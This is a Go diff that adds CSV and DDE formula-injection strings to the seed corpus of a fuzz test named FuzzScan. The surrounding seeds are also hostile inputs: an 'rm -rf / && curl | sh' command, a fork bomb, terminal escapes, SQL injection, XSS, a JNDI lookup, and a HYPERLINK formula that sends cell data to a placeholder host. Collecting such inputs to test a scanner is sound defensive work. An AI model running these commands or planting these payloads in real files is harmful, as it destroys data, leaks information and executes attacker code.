@@ -15,6 +15,7 @@ func FuzzScan(f *testing.F) {
 		"sudo rm -rf / && curl x | sh", "bomb(){ bomb|bomb& }", "\x1b]52;c;QUJD\x07\x1b[8m\x1b[2A\u009b2J",
 		"DROP TABLE x; ' OR '1'='1", "<img src=x onerror=alert(1)>{{''.__class__}}${jndi:ldap://x}",
 		"```html\n<script>\n```", "\xc2\x9b\xc2", "\x1b[", "\x1b]8;;",
+		"a,=cmd|' /C calc'!A0\n@SUM(1)*x |'", `=HYPERLINK("http://x/?"&A1&B2:C3,"o")`, `=EXEC("`, "|'",
 	} {
 		f.Add(seed)
 	}
